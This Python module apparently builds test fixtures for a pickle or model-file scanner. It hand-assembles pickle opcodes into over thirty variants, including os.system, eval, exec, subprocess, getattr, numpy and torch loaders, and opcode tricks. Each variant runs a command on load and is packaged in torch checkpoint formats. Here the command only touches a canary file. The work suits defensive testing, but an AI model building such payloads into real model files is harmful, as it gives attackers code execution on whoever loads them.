"""Files that would run a command if anything unpickled them the ordinary way, written operation by operation."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import torch

MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def named(path: str) -> bytes:
    """A global by the old operation: a name in two lines."""
    module, _, name = path.rpartition(".")
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """A global by the new operation: two strings from the stack. The name may have dots."""
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def in_a_model(payload: bytes, protocol: int = 4) -> bytes:
    """A pickle of `{"model": {"w": payload}}`."""
    return b"\x80" + bytes([protocol]) + b"}" + text("model") + b"}" + text("w") + payload + b"ss."


def object_array(payload: bytes) -> bytes:
    dtype = call(named("numpy.dtype"), text("O8"), b"\x89", b"\x88") + b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xff"
    dtype += b"J\xff\xff\xff\xffK?tb"
    array = call(named("numpy._core.multiarray._reconstruct"), named("numpy.ndarray"), b"K\x00\x85", b"C\x01b")
    return array + b"(K\x01K\x01\x85" + dtype + b"\x89](" + payload + b"etb"


def files_in_bytes(canary: Path) -> dict[str, bytes]:
    """Whole files that make the file `canary`, as operations that leave their bytes on the stack."""
    inner = io.BytesIO()
    torch.save(_Reduced(f"touch {canary}"), inner)
    files = {"torch": inner.getvalue(), "pickle": pickle.dumps(_Reduced(f"touch {canary}"))}
    return {name: b"B" + struct.pack("<I", len(data)) + data for name, data in files.items()}


def payloads(canary: Path) -> dict[str, bytes]:
    """What makes the file `canary`, as operations that leave a value on the stack; every one works in Python."""
    shell, code = text(f"touch {canary}"), text(f"open({str(canary)!r}, 'w').close()")
    path, expression = text(str(canary)), text(f"__import__('os').system('touch {canary}')")
    system = named("os.system")
    as_bytes = files_in_bytes(canary)
    imported = call(named("builtins.__import__"), text("os"))
    return {
        "os.system": call(system, shell),
        "posix.system": call(named("posix.system"), shell),
        "eval by its name in Python 2": call(named("__builtin__.eval"), expression),
        "builtins.eval": call(named("builtins.eval"), expression),
        "builtins.exec": call(named("builtins.exec"), code),
        "builtins.getattr": call(call(named("builtins.getattr"), imported, text("system")), shell),
        "operator.methodcaller": call(call(named("operator.methodcaller"), text("system"), shell), imported),
        "functools.partial": call(call(named("functools.partial"), system, shell)),
        "subprocess.Popen": call(named("subprocess.Popen"), b"](" + text("touch") + path + b"e"),
        "subprocess.check_output": call(named("subprocess.check_output"), b"](" + text("touch") + path + b"e"),
        "runpy": call(named("runpy._run_code"), code, b"}"),
        "timeit.timeit": call(named("timeit.timeit"), code, text("pass"), named("timeit.default_timer"), b"K\x01"),
        "cProfile.run": call(named("cProfile.run"), code, path),
        "pathlib": call(stacked("pathlib", "Path.touch"), call(named("pathlib.PosixPath"), path)),
        "io.open": call(named("io.open"), path, text("w")),
        "numpy.memmap": call(named("numpy.memmap"), path, text("u1"), text("w+"), b"K\x00", b"K\x01\x85"),
        "numpy.ndarray.tofile": call(
            stacked("numpy", "ndarray.tofile"), call(named("numpy._core.multiarray.array"), b"K\x01"), path
        ),
        "numpy.savetxt": call(named("numpy.savetxt"), path, b"](K\x01e"),
        "pickle.loads": call(named("pickle.loads"), as_bytes["pickle"]),
        "torch.storage._load_from_bytes": call(named("torch.storage._load_from_bytes"), as_bytes["torch"]),
        "torch.save": call(named("torch.save"), b"K\x01", path),
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(" + system + shell + b"o",
        "NEWOBJ": named("subprocess.Popen") + b")\x81" + call(system, shell) + b"0",
        "STACK_GLOBAL": call(stacked("os", "system"), shell),
        "STACK_GLOBAL from the memo": text("os")
        + b"\x94"
        + text("system")
        + b"\x94"
        + b"00"
        + call(b"h\x00h\x01\x93", shell),
        "a __setstate__ of its own": call(named("collections.OrderedDict"))
        + b"}"
        + text("__setstate__")
        + system
        + b"sb"
        + shell
        + b"b",
        "in an array of objects": object_array(call(system, shell)),
        "as an array's data": call(
            named("numpy._core.multiarray._reconstruct"), named("numpy.ndarray"), b"K\x00\x85", b"C\x01b"
        )
        + call(system, shell)
        + b"0",
        "as a key": b"}" + call(system, shell) + b"K\x01s",
        "dropped at once": call(system, shell) + b"0N",
        "builtins.map": call(named("builtins.list"), call(named("builtins.map"), system, b"](" + shell + b"e")),
    }


class _Reduced:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.command,)


def torch_zip(path: Path, pickled: bytes, names: tuple[str, ...] = ("m/data.pkl",)) -> Path:
    """What torch.save writes, around any pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        for name in names:
            archive.writestr(name, pickled)
        archive.writestr("m/byteorder", "little")
        archive.writestr("m/version", "3\n")
    return path


def torch_legacy(path: Path, pickled: bytes, place: int = 3) -> Path:
    """What torch.save wrote before it wrote zips: four pickles one after the other, the last but one the content."""
    parts = [
        MAGIC,
        pickle.dumps(1001, 2),
        pickle.dumps({"little_endian": True}, 2),
        pickle.dumps({}, 2),
        pickle.dumps([], 2),
    ]
    parts[place] = pickled
    path.write_bytes(b"".join(parts))
    return path


def torch_tar(path: Path, pickled: bytes, first: str = "storages") -> Path:
    """What torch.save wrote before that: a tar archive of pickles."""
    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT, encoding="latin-1") as archive:
        for name in (first, "storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            data = pickled if name == "pickle" else pickle.dumps(0, 2) + pickle.dumps([], 2)  # no storages, no views
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return path
